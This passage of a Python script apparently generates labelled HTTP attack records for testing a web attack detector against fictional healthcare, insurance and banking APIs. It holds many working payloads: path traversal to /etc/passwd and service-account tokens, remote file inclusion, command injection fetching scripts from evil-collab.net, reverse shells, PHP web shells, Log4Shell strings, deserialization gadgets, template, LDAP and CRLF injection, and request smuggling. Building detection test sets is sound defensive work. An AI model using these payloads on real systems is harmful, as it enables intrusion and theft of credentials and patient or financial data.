       "file:///etc/passwd", "..%5c..%5c..%5cboot.ini"]


@gen
def a_lfi(r):
    for i, p in enumerate(LFI):
        enc_p = p if "%" in p else q(p, safe="/" if i % 2 else "")
        k = i % 4
        if k == 0:
            u = f"/api/v1/documents/download?file={enc_p}"
        elif k == 1:
            u = f"/api/v1/patients/4471/documents?path={enc_p}&disposition=attachment"
        elif k == 2:
            u = f"/dicomweb/studies/{uid_dicom(r)}/series/{uid_dicom(r)}/instances?filepath={enc_p}"
        else:
            u = f"/api/v1/statements/export?template={enc_p}&format=pdf"
        add("attack", "lfi", "document-download", "GET", u, fhir_headers(r, accept="*/*"))
    for p in ["../../../../etc/passwd", "..%2F..%2F..%2F..%2Fetc%2Fshadow", "%2e%2e%2f%2e%2e%2f%2e%2e%2fvar/lib/dicom/../../../etc/passwd"]:
        add("attack", "lfi", "dicom-path", "GET", f"/wado/files/{p}", [("Host", "pacs.radiology.svc.cluster.local"),
                                                                        ("User-Agent", r.choice(DICOM_UAS)), ("Accept", "application/dicom")])
    add("attack", "lfi", "json-path", "POST", "/api/v1/reports/render", bank_headers(r, ctype="application/json"),
        jdump({"template": "../../../../../etc/passwd", "format": "pdf", "data": {"payer": "BLUEPEAK"}}))
    add("attack", "lfi", "json-path", "POST", "/api/v1/dicom/convert", fhir_headers(r, ctype="application/json"),
        jdump({"input": "/var/lib/dicom/incoming/../../../../root/.kube/config", "output": "png"}))
    ct, body = multipart(r, [("file", "../../../../../../app/static/shell.jsp", "application/pdf", "%PDF-1.4 ..."), ("documentType", None, None, "PASSPORT")])
    add("attack", "lfi", "multipart-filename", "POST", "/kyc/v2/applicants/" + uid(r) + "/documents", bank_headers(r, ctype=ct), body)


@gen
def a_rfi(r):
    for u in ["http://evil-collab.net/shell.txt?", "https://pastebin.com/raw/Xy12abCd?", "ftp://evil-collab.net/pub/r57.txt",
              "http://evil-collab.net/c99.php%00", "\\\\evil-collab.net\\share\\x.php", "https://raw.githubusercontent.com/attacker/x/main/shell.php?"]:
        add("attack", "rfi", "template-include", "GET",
            r.choice(["/portal/index.php?page=", "/billing/statement.php?tpl=", "/reports/view.php?include=", "/portal/lang.php?lang="]) + q(u, safe=":/?%"),
            [("Host", r.choice(["portal.northwind-health.org", "billing.harborinsure.com"])), ("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
             ("Accept", "*/*")])


RCE = ["pdf; id", "report.pdf|cat /etc/passwd", "csv$(curl -s http://evil-collab.net/x.sh|sh)", "x`wget -qO- http://10.0.0.5/a|bash`",
       "pdf && nc -e /bin/sh evil-collab.net 4444", "xlsx;bash -i >& /dev/tcp/203.0.113.7/443 0>&1", "a.png || ping -c 10 127.0.0.1",
       "pdf%0Aid", "$(cat${IFS}/var/run/secrets/kubernetes.io/serviceaccount/token)", "out.pdf;/usr/bin/curl${IFS}evil-collab.net/`whoami`",
       "dcm & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "x'; python3 -c 'import os;os.system(\"id\")'; '",
       "pdf|| uname -a #", "; rm -rf /tmp/*; ", "1.dcm\nwget http://evil-collab.net/m -O /tmp/m; chmod +x /tmp/m; /tmp/m"]


@gen
def a_rce(r):
    for i in range(8):
        p = RCE[i]
        param = r.choice(["format", "filename", "output", "converter"])
        if p.startswith("pdf%0A"):
            u = f"/reports/v1/export?report=claims-aging&{param}={p}"
        else:
            u = uri("/reports/v1/export", [("report", "claims-aging"), (param, p)], r.choice(["std", "plus"]))
        add("attack", "rce", "report-export", "GET", u, bank_headers(r, host="reports.analytics.svc.cluster.local", accept="*/*"))
    for i in range(5):
        p = RCE[8 + i]
        body = r.choice([{"input": f"/data/incoming/{r.randint(100, 999)}.dcm", "output": "png", "options": "-quality 90 " + p},
                         {"file": "scan.tiff", "to": "pdf", "dpi": "300" + p}, {"source": "study.dcm", "targetFormat": p}])
        add("attack", "rce", "file-conversion", "POST", r.choice(["/api/v1/dicom/convert", "/api/v1/convert"]),
            fhir_headers(r, ctype="application/json", accept="application/json"), jdump(body, r))
    for p in RCE[13:]:
        add("attack", "rce", "file-conversion", "POST", "/api/v1/convert", fhir_headers(r, ctype="application/x-www-form-urlencoded"),
            qs([("file", "lab_results.hl7"), ("to", "pdf"), ("pageSize", "A4" + p)], "plus"))
    # HL7 segment breaking into a shell payload (interface engine passes field to a script)
    add("attack", "rce", "hl7-field", "POST", "/hl7/v2/messages", hl7_headers(r),
        hl7_msg(r, kind="ORM^O01^ORM_O01", extra_seg="ZPD|1|report.pdf;curl http://evil-collab.net/s.sh|sh;|"))
    add("attack", "rce", "hl7-field", "POST", "/hl7/v2/messages", hl7_headers(r),
        hl7_msg(r, kind="ORU^R01^ORU_R01", obx_value="$(bash -c 'bash -i >& /dev/tcp/203.0.113.7/9001 0>&1')"))
    # ImageMagick / Ghostscript style payload in KYC upload
    ct, body = multipart(r, [("file", "id_front.mvg", "image/png",
                              "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|curl \"http://evil-collab.net/$(id))'\npop graphic-context")])
    add("attack", "rce", "kyc-upload", "POST", "/kyc/v2/applicants/" + uid(r) + "/documents", bank_headers(r, ctype=ct), body)
    ct, body = multipart(r, [("file", "statement.eps", "application/postscript",
                              "%!PS\nuserdict /setpagedevice undef\nlegal\n{ null restore } stopped { pop } if\n{ legal } stopped { pop } if\nrestore\n"
                              "mark /OutputFile (%pipe%id > /tmp/pwned) currentdevice putdeviceprops")])
    add("attack", "rce", "kyc-upload", "POST", "/onboarding/api/v1/identity/documents", bank_headers(r, ctype=ct), body)
    add("attack", "rce", "header", "GET", "/cgi-bin/statement.cgi",
        [("Host", "legacy-billing.harborinsure.com"), ("User-Agent", "() { :; }; /bin/bash -c 'curl http://evil-collab.net/sh | sh'"), ("Accept", "*/*")])


@gen
def a_php(r):
    add("attack", "php", "php-wrapper", "GET", "/portal/index.php?page=" + q("php://filter/convert.base64-encode/resource=../config/db.php", safe="/:"),
        [("Host", "portal.northwind-health.org"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*")])
    add("attack", "php", "php-wrapper", "POST", "/portal/index.php?page=php://input",
        [("Host", "portal.northwind-health.org"), ("User-Agent", "curl/8.5.0"), ("Content-Type", "application/x-www-form-urlencoded")],
        "<?php system($_GET['c']); ?>")
    add("attack", "php", "php-wrapper", "GET", "/billing/statement.php?tpl=" + q("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=", safe=":/;,"),
        [("Host", "billing.harborinsure.com"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*")])
    ct, body = multipart(r, [("documentType", None, None, "PASSPORT"),
                              ("file", "passport.php.jpg", "image/jpeg", "\xff\xd8\xff\xe0GIF89a;<?php echo shell_exec($_REQUEST['cmd']); ?>")])
    add("attack", "php", "webshell-upload", "POST", "/kyc/upload.php", [("Host", "kyc.fintechpay.io"), ("User-Agent", "Mozilla/5.0"), ("Content-Type", ct)], body)
    ct, body = multipart(r, [("file", "invoice.phtml", "application/octet-stream", "<?=`$_GET[0]`?>")])
    add("attack", "php", "webshell-upload", "POST", "/billing/attachments/upload", [("Host", "billing.harborinsure.com"), ("User-Agent", "Mozilla/5.0"),
                                                                                   ("Content-Type", ct)], body)
    obj = 'O:27:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":1:{s:10:"\x00*\x00handler";N;}}'
    add("attack", "php", "object-injection", "GET", "/portal/dashboard",
        [("Host", "portal.northwind-health.org"), ("User-Agent", "Mozilla/5.0"), ("Cookie", "prefs=" + q(obj))])
    add("attack", "php", "object-injection", "POST", "/billing/api/cart/restore", [("Host", "billing.harborinsure.com"), ("User-Agent", "python-requests/2.31.0"),
                                                                                  ("Content-Type", "application/x-www-form-urlencoded")],
        "state=" + q('a:2:{i:0;O:8:"stdClass":0:{}i:1;O:31:"GuzzleHttp\\Cookie\\FileCookieJar":1:{s:36:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:27:"/var/www/html/pub/shell.php";}}'))
    add("attack", "php", "code-eval", "GET", "/portal/api/calc.php?expr=" + q("1;eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));"),
        [("Host", "portal.northwind-health.org"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*")])


JNDI = ["${jndi:ldap://evil-collab.net:1389/Basic/Command/Base64/aWQ=}", "${jndi:dns://x.evil-collab.net/a}", "${${lower:j}ndi:${lower:l}dap://203.0.113.7/o}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil-collab.net/x}", "${jndi:rmi://10.0.0.5:1099/Exploit}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil-collab.net/a}", "${jndi:ldaps://${env:AWS_SECRET_ACCESS_KEY}.evil-collab.net/x}",
        "${j${k8s:k5:-ND}i:ldap://evil-collab.net/${sys:java.version}}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil-collab.net%2Fz%7D", "${jndi:${lower:l}${lower:d}a${lower:p}://x.evil-collab.net/}"]


def java_serialized_b64(r, gadget=b"org.apache.commons.collections.functors.InvokerTransformer"):
    blob = (b"\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;"
            b"xpsr\x00" + bytes([len(gadget)]) + gadget + b"\x87\xe8\xffk{|\xce8\x02\x00\x03[\x00\x05iArgst\x00\x13[Ljava/lang/Object;L\x00\x0biMethodNamet"
            b"\x00\x12Ljava/lang/String;t\x00\x04exect\x00\x12java.lang.Runtimeur\x00\x13[Ljava.lang.String;t\x00\x1bcurl evil-collab.net/j|sh" + r.randbytes(8))
    return base64.b64encode(blob).decode()


@gen
def a_java(r):
    hdr_names = ["User-Agent", "X-Api-Version", "X-Forwarded-For", "Referer", "X-Request-Id", "x-fapi-interaction-id", "Authorization", "X-Correlation-ID"]
    for i in range(8):
        p = JNDI[i]
        name = hdr_names[i]
        h = bank_headers(r) if i % 2 else fhir_headers(r)
        h = [(k, v) for k, v in h if k.lower() != name.lower()]
        h.append((name, ("Bearer " + p) if name == "Authorization" else p))
        add("attack", "java", "log4shell-header", "GET", r.choice(["/open-banking/v3.1/aisp/accounts", "/fhir/r4/metadata", "/healthz", "/fhir/r4/Patient?name=smith"]), h)
    for i in range(3):
        p = JNDI[(i * 3 + 1) % len(JNDI)]
        m = hl7_msg(r, pid_name=f"{p}^John") if i != 1 else hl7_msg(r, kind="ORU^R01^ORU_R01", obx_value=p)
        add("attack", "java", "log4shell-hl7", "POST", "/hl7/v2/messages", hl7_headers(r), m)
    add("attack", "java", "log4shell-query", "GET", "/fhir/r4/Patient?family=" + JNDI[8] + "&_count=10", fhir_headers(r))
    add("attack", "java", "log4shell-json", "POST", "/open-banking/v3.1/pisp/domestic-payment-consents", bank_headers(r, ctype="application/json", idem=True),
        jdump({"Data": {"Initiation": {"InstructionIdentification": "A1", "EndToEndIdentification": JNDI[9],
                                       "InstructedAmount": {"Amount": "10.00", "Currency": "GBP"},
                                       "RemittanceInformation": {"Unstructured": JNDI[0]}}}, "Risk": {}}))
    add("attack", "java", "log4shell-x12", "POST", "/edi/v1/x12/submit",
        [("Host", r.choice(INS_HOSTS)), ("User-Agent", "python-requests/2.31.0"), ("Content-Type", "application/EDI-X12"), ("Authorization", "Bearer " + jwt(r))],
        x12_837(r, clm_note=JNDI[1]))
    # Java deserialization
    for i in range(3):
        b = java_serialized_b64(r)
        if i == 0:
            add("attack", "java", "deserialization", "POST", "/api/channels/adt-in/state", hl7_headers(r, "application/x-java-serialized-object"),
                jdump({"state": b}))
        elif i == 1:
            add("attack", "java", "deserialization", "GET", "/portal/dashboard",
                [("Host", "portal.northwind-health.org"), ("User-Agent", "Mozilla/5.0"), ("Cookie", f"JSESSIONID={r.randbytes(16).hex().upper()}; rememberMe={b}")])
        else:
            add("attack", "java", "deserialization", "POST", "/invoker/JMXInvokerServlet",
                [("Host", "legacy-claims.harborinsure.com"), ("User-Agent", "Java/1.8.0_202"), ("Content-Type", "application/x-www-form-urlencoded")],
                "viewstate=" + q(b))
    add("attack", "java", "snakeyaml", "POST", "/api/v1/mappings/import", fhir_headers(r, ctype="application/x-yaml", accept="application/json"),
        'mapping: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil-collab.net/yaml-payload.jar"]]]]\n')
    add("attack", "java", "jackson-polymorphic", "POST", "/ledger/v1/journal-entries", bank_headers(r, ctype="application/json", idem=True),
        jdump({"journal": "JE-1", "memo": ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://evil-collab.net:1389/Exploit", "autoCommit": True}]}))
    add("attack", "java", "spring4shell", "POST", "/payments/v2/config",
        bank_headers(r, ctype="application/x-www-form-urlencoded"),
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))"
        "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT")
    add("attack", "java", "spel-header", "POST", "/functionRouter", [("Host", "ledger.finance.svc.cluster.local:8080"), ("User-Agent", "curl/8.5.0"),
                                                                    ("spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")'),
                                                                    ("Content-Type", "text/plain")], "data")
    add("attack", "java", "ognl", "GET", "/claims/index.action?redirect:" + q("${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}", safe=""),
        [("Host", "legacy-claims.harborinsure.com"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*")])
    add("attack", "java", "ognl", "POST", "/claims/upload.action",
        [("Host", "legacy-claims.harborinsure.com"), ("User-Agent", "Mozilla/5.0"),
         ("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}")], "")


@gen
def a_generic(r):
    xaml = ('<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" '
            'xmlns:System="clr-namespace:System;assembly=mscorlib" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system">'
            '<ObjectDataProvider x:Key="LaunchCalc" ObjectType="{x:Type Diag:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters>'
            '<System:String>cmd</System:String><System:String>/c powershell -nop -c iwr http://evil-collab.net/a.ps1|iex</System:String>'
            '</ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>')
    add("attack", "generic", "dotnet-xaml", "POST", "/api/claims/import", [("Host", "claims.bluepeak-health.com"), ("User-Agent", "Mozilla/5.0"),
                                                                          ("Content-Type", "application/xaml+xml")], xaml)
    add("attack", "generic", "dotnet-json", "POST", "/api/v1/quotes/restore", [("Host", "api.harborinsure.com"), ("User-Agent", "python-requests/2.31.0"),
                                                                              ("Content-Type", "application/json")],
        jdump({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
               "MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c whoami > C:\\inetpub\\wwwroot\\o.txt"]},
               "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}}))
    bf = base64.b64encode(b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00^Microsoft.PowerShell.Editor, Version=3.0.0.0\x05\x01\x00\x00\x00"
                          b"Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties\x01\x00\x00\x00\x1aForegroundBrush<ObjectDataProvider MethodName=\"Start\">"
                          + r.randbytes(16)).decode()
    add("attack", "generic", "dotnet-binaryformatter", "POST", "/Claims/Status.aspx", [("Host", "legacy-claims.harborinsure.com"), ("User-Agent", "Mozilla/5.0"),
                                                                                     ("Content-Type", "application/x-www-form-urlencoded")],
        qs([("__VIEWSTATE", bf), ("__VIEWSTATEGENERATOR", "CA0B0334"), ("claimId", "4471")], "plus"))
    add("attack", "generic", "yaml-python", "POST", "/api/v1/mappings/import", fhir_headers(r, ctype="application/yaml", accept="application/json"),
        "name: adt-to-fhir\nsteps: !!python/object/apply:os.system [\"curl http://evil-collab.net/p | sh\"]\n")
    add("attack", "generic", "yaml-python", "POST", "/reports/v1/schedules", bank_headers(r, ctype="text/yaml"),
        "report: claims-aging\ncron: '0 6 * * 1-5'\nhook: !!python/object/new:subprocess.check_output [[\"id\"]]\n")
    add("attack", "generic", "yaml-ruby", "POST", "/api/v1/config", bank_headers(r, ctype="application/x-yaml"),
        "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n      socket: &1 !ruby/module 'Kernel'\n      method_id: :system\n")
    add("attack", "generic", "prototype-pollution", "POST", "/notifications/v1/preferences", bank_headers(r, ctype="application/json"),
        '{"channel":"sms","__proto__":{"isAdmin":true,"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}')
    add("attack", "generic", "prototype-pollution", "GET", "/api/v1/records?constructor[prototype][isAdmin]=true&__proto__[role]=superuser", bank_headers(r))
    add("attack", "generic", "node-serialize", "POST", "/portal/api/session", [("Host", "portal.northwind-health.org"), ("User-Agent", "Mozilla/5.0"),
                                                                              ("Content-Type", "application/json")],
        jdump({"profile": "_$$ND_FUNC$$_function(){require('child_process').exec('curl evil-collab.net/n|sh')}()"}))
    add("attack", "generic", "pickle", "POST", "/ml/v1/risk-score", bank_headers(r, ctype="application/json"),
        jdump({"model_state": base64.b64encode(b"cos\nsystem\n(S'curl http://evil-collab.net/pk | sh'\ntR.").decode(), "applicant": "4471"}))


SSTI = ["{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${T(java.lang.Runtime).getRuntime().exec('curl evil-collab.net/t')}", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read()}}",
        "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}{{/with}}{{/with}}",
        "<%= `cat /var/run/secrets/kubernetes.io/serviceaccount/token` %>", "@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"); }",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}", "{% import os %}{{ os.system('id') }}",
        "${{<%[%'\"}}%\\.", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", "{php}echo `id`;{/php}"]


@gen
def a_ssti(r):
    for i, p in enumerate(SSTI):
        if i % 3 == 0:
            add("attack", "ssti", "notification-template", "POST", "/notifications/v1/templates",
                fhir_headers(r, host="notify.patient-engagement.svc.cluster.local", ctype="application/json", accept="application/json"),
                jdump({"name": "appt-reminder", "channel": "sms", "body": f"Hi {{{{patient.firstName}}}}, {p}"}, r))
        elif i % 3 == 1:
            add("attack", "ssti", "notification-preview", "GET",
                uri("/notifications/v1/preview", [("template", p), ("patient", "4471")], r.choice(["std", "plus"])),
                fhir_headers(r, host="notify.patient-engagement.svc.cluster.local", accept="text/html"))
        else:
            add("attack", "ssti", "statement-template", "POST", "/api/v1/statements/templates", bank_headers(r, ctype="application/x-www-form-urlencoded"),
                qs([("name", "Q2 statement"), ("header", "Dear " + p), ("locale", "en-GB")], "plus"))


LDAPI = ["*)(uid=*))(|(uid=*", "*)(objectClass=*", "admin)(&(userPassword=*))", "*))%00", "smith*)(|(mail=*", "x)(|(cn=*)(userPassword=*",
         "*)(memberOf=cn=Domain Admins,cn=Users,dc=nwh,dc=local", "*()|&'", "jdoe)(!(sn=x", "*)(description=*pass*"]


@gen
def a_ldapi(r):
    for i, p in enumerate(LDAPI):
        k = i % 3
        if k == 0:
            u = uri("/directory/v1/practitioners", [("q", p), ("role", "physician")], r.choice(["std", "plus"]))
            add("attack", "ldapi", "practitioner-search", "GET", u, fhir_headers(r, accept="application/json"))
        elif k == 1:
            add("attack", "ldapi", "user-search", "GET", uri("/admin/api/users", [("filter", f"(&(sn={p})(ou=staff))")], "std"),
                bank_headers(r, host="iam-admin.platform.svc.cluster.local"))
        else:
            add("attack", "ldapi", "login", "POST", "/auth/ldap/login", [("Host", "sso.northwind-health.org"), ("User-Agent", "Mozilla/5.0"),
                                                                         ("Content-Type", "application/x-www-form-urlencoded")],
                qs([("username", p), ("password", "anything")], "plus"))
    add("attack", "ldapi", "practitioner-search", "POST", "/directory/v1/practitioners/search", fhir_headers(r, ctype="application/json", accept="application/json"),
        jdump({"name": "*)(|(objectClass=*)(userPassword=*)", "specialty": "Cardiology"}))
    add("attack", "ldapi", "practitioner-search", "GET", "/fhir/r4/Practitioner?name=" + q("D*)(|(telephoneNumber=*)") + "&_count=50", fhir_headers(r))


@gen
def a_crlf(r):
    pays = ["%0d%0aSet-Cookie:%20session=attacker", "%0D%0ALocation:%20https://evil-collab.net/", "%0d%0a%0d%0a<script>alert(1)</script>",
            "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", "%0aX-Forwarded-For:%20127.0.0.1", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0a"]
    for i, p in enumerate(pays):
        u = r.choice([f"/reports/v1/exports/4471/download?filename=claims.csv{p}",
                      f"/authorize?client_id=tpp-123&response_type=code&redirect_uri=https://tpp.example-fintech.com/cb{p}",
                      f"/portal/logout?next=/home{p}", f"/api/v1/statements/export?format=csv&filename=stmt{p}"])
        add("attack", "crlf", "query", "GET", u, bank_headers(r, accept="*/*"))
    add("attack", "crlf", "path", "GET", "/fhir/r4/Patient/4471%0d%0aX-Injected:%20true", fhir_headers(r))
    add("attack", "crlf", "email-header", "POST", "/notifications/v1/send", fhir_headers(r, host="notify.patient-engagement.svc.cluster.local", ctype="application/json"),
        jdump({"to": "patient@example.org", "subject": "Your results\r\nBcc: harvest@evil-collab.net\r\nX-Mailer: x", "template": "results-ready"}))
    add("attack", "crlf", "json-header", "POST", "/reports/v1/exports", bank_headers(r, host="reports.analytics.svc.cluster.local", ctype="application/json"),
        jdump({"report": "claims-aging", "format": "csv", "filename": "aging.csv\r\nContent-Type: text/html\r\n\r\n<html><script>alert(1)</script>"}))
    add("attack", "crlf", "webhook-header", "POST", "/fhir/r4/Subscription", fhir_headers(r, ctype="application/fhir+json"),
        jdump({"resourceType": "Subscription", "status": "requested", "criteria": "Observation?code=1988-5",
               "channel": {"type": "rest-hook", "endpoint": "https://care-app.northwind-health.org/notify",
                           "header": ["Authorization: Bearer x\r\nHost: 169.254.169.254\r\n\r\nGET /latest/meta-data/ HTTP/1.1"]}}))


@gen
def a_protocol(r):
    smug = "0\r\n\r\nGET /admin/api/users HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x"
    add("attack", "protocol", "cl-te", "POST", "/open-banking/v3.1/pisp/domestic-payments",
        bank_headers(r, ctype="application/json") + [("Content-Length", "6"), ("Transfer-Encoding", "chunked")], smug)
    add("attack", "protocol", "te-obfuscated", "POST", "/fhir/r4/Patient",
        fhir_headers(r, ctype="application/fhir+json") + [("Transfer-Encoding", "xchunked"), ("Transfer-Encoding", "chunked")], smug)
    add("attack", "protocol", "te-obfuscated", "POST", "/hl7/v2/messages",
        hl7_headers(r) + [("Transfer-Encoding", " chunked"), ("Content-Length", "4")], "5c\r\nGPOST / HTTP/1.1\r\n\r\n0\r\n\r\n")
    add("attack", "protocol", "te-obfuscated", "POST", "/edi/v1/x12/submit",
        [("Host", INS_HOSTS[0]), ("User-Agent", "python-requests/2.31.0"), ("Content-Type", "application/EDI-X12"),
         ("Transfer-Encoding", "chunked, identity"), ("Content-Length", "3")], "8\r\nISA*00*x\r\n0\r\n\r\n")
    add("attack", "protocol", "duplicate-cl", "POST", "/ledger/v1/journal-entries",
        bank_headers(r, host="ledger.finance.svc.cluster.local:8080", ctype="application/json") + [("Content-Length", "2"), ("Content-Length", "52")],
        '{}GET /internal/debug HTTP/1.1\r\nHost: localhost\r\n\r\n')
    add("attack", "protocol", "range-dos", "GET", "/api/v1/documents/download?file=discharge.pdf",
        fhir_headers(r, accept="*/*") + [("Range", "bytes=0-," + ",".join(f"5-{i}" for i in range(1, 120)))])
    add("attack", "protocol", "te-obfuscated", "POST", "/fhir/r4",
        fhir_headers(r, ctype="application/fhir+json") + [("Transfer-Encoding", "chunked"), ("Transfer-encoding", "cow")],
        "0\r\n\r\nPOST /fhir/r4/$reindex HTTP/1.1\r\nHost: fhir-server.clinical.svc.cluster.local:8080\r\n\r\n")
    add("attack", "protocol", "h2c-upgrade", "GET", "/open-banking/v3.1/aisp/accounts",
        bank_headers(r) + [("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA")])


# ================================================================ main

def main(argv):
    mode = argv[1] if len(argv) > 1 else "stats"
    for name, fn in GENERATORS:
        fn(random.Random(f"{SET}:{name}"))
    ids = [x["id"] for x in RECORDS]
    assert len(ids) == len(set(ids)), "duplicate ids"
    if mode == "attacks":
        sel = [x for x in RECORDS if x["expect"] == "detect"]
    elif mode == "benign":
        sel = [x for x in RECORDS if x["expect"] == "pass"]
    elif mode == "stats":
        cats = {}
        for x in RECORDS:
            k = "dev-content" if "/dev-content/" in x["id"] else x["category"]
            cats[k] = cats.get(k, 0) + 1
        for k in sorted(cats):
            print(f"{k:12s} {cats[k]}", file=sys.stderr)
        print(f"{'total':12s} {len(RECORDS)}", file=sys.stderr)
        return 0
    else:
        print(__doc__, file=sys.stderr)
        return 2
    for x in sel:
        sys.stdout.write(json.dumps(x, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
